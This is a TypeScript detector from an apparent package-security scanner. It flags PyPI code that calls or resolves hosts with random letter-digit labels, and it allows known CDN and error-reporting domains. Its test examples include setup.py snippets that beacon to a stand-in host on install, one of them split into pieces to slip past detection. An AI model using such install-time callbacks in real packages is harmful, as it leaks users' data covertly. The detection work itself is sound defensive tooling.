import { marks } from "../behaviour/marks.ts";
import { type Deed, deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import { codeWith, sight } from "./_sight.ts";

/** A host in an address, or alone where a name is looked up. */
const IN_ADDRESS = /:\/\/((?:[a-z0-9…-]{1,63}\.){1,8}[a-z]{2,24})(?=[/:?#\s"']|$)/i;
const ALONE = /^\s{0,4}((?:[a-z0-9…-]{1,63}\.){1,8}[a-z]{2,24})\.?(?=\s|$)/i;
/** Where each customer gets such a name for what is kept there or answered from there. */
const STORES =
  /\.(?:cloudfront\.net|amazonaws\.com|azureedge\.net|azurefd\.net|akamaized\.net|fastly\.net|sentry\.io)$/i;
/** Letters and digits in turn, as in such a name, a part of one and encoded text: a file without any of it is not read. */
const MIXED = /[a-z]\d{1,12}[a-z]{1,12}\d|\d[a-z]{1,12}\d{1,12}[a-z]/i;
/** Shorter labels are abbreviations and short hashes. */
const SHORTEST = 20;

export const asksRandomName: Detector = {
  id: "asks-random-name",
  title: "Asks a host whose name was made up by a machine",
  severity: "medium",
  ecosystems: ["pypi"],
  points: 2.2,
  class: "threat",
  group: "suspicious-host",
  why: `The code calls or looks up a host with a long label of random letters and digits. Services that show who called, and throw-away
servers, tell their users apart that way: the label is the account, made for this one release.

Addresses of stored files and of error reports have such labels too; the large stores are known by name.`,
  literals: marks("http", "dns", "upload"),
  *detect(tree) {
    for (const file of codeWith(tree, marks("http", "dns", "upload"))) {
      if (file.kind !== "python" || !MIXED.test(file.text)) continue;
      for (const deed of deedsOf(file, "http", "dns", "upload")) {
        const name = randomNameIn(deed);
        if (name !== undefined) yield sight(file, deed.offset, `${deed.what} asks ${name}`, { phase: deed.phase });
      }
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: { "setup.py": "import socket\nsocket.gethostbyname('a.8x2k4m6p0q9w1e3r5t7y.example.invalid')\n" },
      },
    ],
    passes: [
      {
        ecosystem: "pypi",
        files: { "demo/a.py": "import requests\nrequests.get('https://averylongnameofaproject.example.invalid/x')\n" },
      },
    ],
    evasions: [
      {
        ecosystem: "pypi",
        files: {
          "setup.py":
            "import requests\nu = '8X2K4M6P0Q' + '9W1E3R5T7Y'\nrequests.get(f'https://{u}.example.invalid/{me}')\n",
        },
      },
    ],
  },
};

function randomNameIn({ act, text }: Deed): string | undefined {
  const host = (IN_ADDRESS.exec(text.slice(0, 2_000)) ?? (act === "dns" ? ALONE.exec(text.slice(0, 300)) : null))?.[1];
  if (host === undefined || STORES.test(host)) return undefined;
  return host.split(".").some(isMadeUp) ? host : undefined;
}

/** Letters and digits in turn, as nobody names a project. */
function isMadeUp(label: string): boolean {
  if (label.length < SHORTEST || !/^[a-z0-9]+$/i.test(label)) return false;
  const digits = label.replace(/\D/g, "").length;
  const turns = label.match(/[a-z](?=\d)|\d(?=[a-z])/gi)?.length ?? 0;
  return digits >= 3 && label.length - digits >= 3 && turns >= 4;
}
